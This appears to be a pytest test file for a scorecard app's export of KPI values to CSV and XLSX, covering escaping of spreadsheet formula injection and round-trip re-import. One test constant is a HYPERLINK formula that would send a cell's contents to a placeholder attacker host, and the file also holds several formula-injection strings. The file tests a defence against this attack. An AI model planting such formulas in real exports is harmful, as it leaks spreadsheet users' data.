"""Export of values: the content, formula-injection safety, and the round trip."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from scorecard.imports import tabular
from scorecard.imports.services import RowChecker, import_table, mapping_from_names
from scorecard.imports.values_export import HEADER, export_values, scorecard_values
from scorecard.kpis.models import Measurement, Target
from scorecard.kpis.services import measurement_record, target_set

from .conftest import FEB, JAN, Card

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def values(card: Card) -> Card:
    measurement_record(kpi=card.sales, period_start=JAN, value=40, note="from the ERP")
    measurement_record(kpi=card.sales, period_start=JAN, value=45, note="corrected")
    measurement_record(kpi=card.sales, period_start=FEB, value=-12.25, note="+1 from returns")
    target_set(kpi=card.sales, period_start=FEB, value=50)
    measurement_record(kpi=card.nps, period_start=JAN, value=0.1, note="@team: check")
    measurement_record(kpi=card.free, period_start=JAN, value=1e6, note="")
    return card


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.django_db
def test_rows_hold_value_target_score_status_and_note(values: Card) -> None:
    rows = [r.cells() for r in scorecard_values(scorecard=values.world.scorecard)]
    assert rows == [
        # sales: scale 0–100, default target 100, from February a target of 50
        ("sales", "Sales", JAN, 45.0, 100.0, 45.0, "yellow", "corrected"),
        ("sales", "Sales", FEB, -12.25, 50.0, -12.2, "red", "+1 from returns"),
        ("nps", "Net promoter score", JAN, 0.1, 100.0, 0.1, "red", "@team: check"),
        ("free", "Free", JAN, 1e6, None, None, "not_applicable", ""),
    ]  # the calculated KPI (ratio) has no stored values and is left out


@pytest.mark.django_db
def test_csv_export_is_safe_and_keeps_numbers(values: Card) -> None:
    values.sales.name = EVIL_NAME
    values.sales.save()
    out = io.StringIO()
    assert export_values(scorecard=values.world.scorecard, fmt="csv", out=out) == 4
    text = out.getvalue()
    assert text.startswith("\ufeffKPI code,KPI name,period,value,target,score (%),status,note")
    rows = _csv_rows(text)
    assert rows[1] == ["sales", "'" + EVIL_NAME, "2026-01-01", "45", "100", "45", "yellow",
                       "corrected"]  # fmt: skip
    # a negative number stays a number; a text starting with + or @ is escaped
    assert rows[2][3] == "-12.25" and rows[2][7] == "'+1 from returns"
    assert rows[3][7] == "'@team: check"
    assert rows[4][3:6] == ["1000000", "", ""]
    for row in rows:
        for cell in row:
            assert not cell.startswith(tabular.FORMULA_STARTS) or _is_number(cell)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_xlsx_export_writes_texts_as_strings_never_formulas(values: Card, tmp_path: Path) -> None:
    values.sales.name = EVIL_NAME
    values.sales.save()
    path = tmp_path / "values.xlsx"
    export_values(scorecard=values.world.scorecard, fmt="xlsx", out=path)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    workbook = load_workbook(path)  # not data_only: a formula would come back as one
    sheet = workbook.active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == list(HEADER)
    name = sheet["B2"]
    assert (name.value, name.data_type, name.quotePrefix) == (EVIL_NAME, "s", True)
    note = sheet["H3"]
    assert (note.value, note.data_type) == ("+1 from returns", "s")
    value = sheet["D3"]
    assert (value.value, value.data_type) == (-12.25, "n")  # numbers stay numbers
    period = sheet["C2"]
    assert period.is_date and period.value == dt.datetime(2026, 1, 1)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_gives_the_same_values(values: Card, tmp_path: Path, fmt: str) -> None:
    values.sales.name = EVIL_NAME
    values.sales.save()
    measurement_record(kpi=values.free, period_start=FEB, value=0.1 + 0.2, note="=1+1")
    measurement_record(kpi=values.nps, period_start=dt.date(2026, 4, 1), value=7, note="'quoted'")
    scorecard = values.world.scorecard
    before = [r.cells() for r in scorecard_values(scorecard=scorecard)]
    path = tmp_path / f"values.{fmt}"
    export_values(scorecard=scorecard, fmt=fmt, out=path)
    Measurement.objects.all().delete()
    headers, _ = tabular.read_head(path, fmt, 0)
    checker = RowChecker(
        scorecard=scorecard, mapping=mapping_from_names(headers, {}), user=None, role="admin"
    )
    result = import_table(path=path, fmt=fmt, checker=checker)
    assert (result.rows, result.created) == (len(before), len(before))
    after = [r.cells() for r in scorecard_values(scorecard=scorecard)]
    if fmt == "csv":
        assert after == before  # exactly: floats are written with repr
    else:
        # XLSX numbers carry 16 significant digits (Excel itself keeps 15)
        assert [r[:3] + r[4:] for r in after] == [r[:3] + r[4:] for r in before]
        assert [r[3] for r in after] == pytest.approx([r[3] for r in before], rel=1e-15)
    # and importing the same file again changes nothing
    again = import_table(path=path, fmt=fmt, checker=checker)
    assert (again.created, again.corrected, again.unchanged) == (0, 0, len(before))
    assert Target.objects.count() == 1  # targets are not touched by an import


@given(st.text())
def test_the_csv_escape_is_reversible(text: str) -> None:
    escaped = tabular.escape_text(text)
    assert tabular.unescape_text(escaped) == text
    assert not escaped.startswith(tabular.FORMULA_STARTS)


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+31 20 123", "'+31 20 123"),
        ("-minus", "'-minus"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=already", "''=already"),
        ("'quoted'", "'quoted'"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_escape_examples(text: str, escaped: str) -> None:
    assert tabular.escape_text(text) == escaped
